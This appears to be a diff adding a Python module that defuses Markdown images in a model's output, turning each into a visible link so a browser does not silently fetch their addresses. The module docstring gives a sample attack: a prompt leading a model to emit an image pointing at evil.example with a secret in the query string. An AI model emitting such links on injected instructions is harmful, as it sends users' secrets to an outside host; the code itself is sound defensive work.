@@ -1,0 +1,53 @@
+"""Makes a model's Markdown safe to show: an image in it would make the reader's browser call its address.
+
+A prompt can talk a model into ``![x](https://evil.example/?q=secret)``; shown as it is, the secret is gone.
+Raw HTML is not handled here: it must never be rendered at all.
+"""
+
+from __future__ import annotations
+
+import re
+
+from markdown_it import MarkdownIt
+
+_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")
+_JOINER = "\u2060"  # WORD JOINER: no width, but it parts “!” from “[”
+_COMMONMARK = MarkdownIt("commonmark")
+
+
+def safe_markdown(text: str) -> str:
+    """The same text with every image a link that shows its target.
+
+    No ``![`` survives anywhere, whatever a renderer takes for code: inside code, where a link would be wrong,
+    an invisible character parts the two.
+    """
+    lines = text.split("\n")
+    code = _code_lines(text)
+    shown = [_in_code(line) if number in code else _in_prose(line) for number, line in enumerate(lines)]
+    return "\n".join(shown)
+
+
+def _code_lines(text: str) -> set[int]:
+    """The lines of fenced and indented code blocks."""
+    lines: set[int] = set()
+    for token in _COMMONMARK.parse(text):
+        if token.type in ("fence", "code_block") and token.map:
+            lines |= set(range(*token.map))
+    return lines
+
+
+def _in_code(line: str) -> str:
+    return line.replace("![", f"!{_JOINER}[")
+
+
+def _in_prose(line: str) -> str:
+    """Outside code blocks; inside `code spans`, the invisible character too. A price is no formula."""
+    parts = re.split(r"(`+[^`]*`+)", line)
+    for at, part in enumerate(parts):
+        if at % 2:
+            parts[at] = _in_code(part)
+        else:
+            defused = _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'untitled'} ({m.group(2)})]({m.group(2)})", part)
+            parts[at] = re.sub(r"(?<!\\)\$(?=\d)", r"\\$", defused.replace("![", "\\!["))
+    # Two parts may meet as “!” and “[”.
+    return "".join(parts).replace("![", f"!{_JOINER}[")
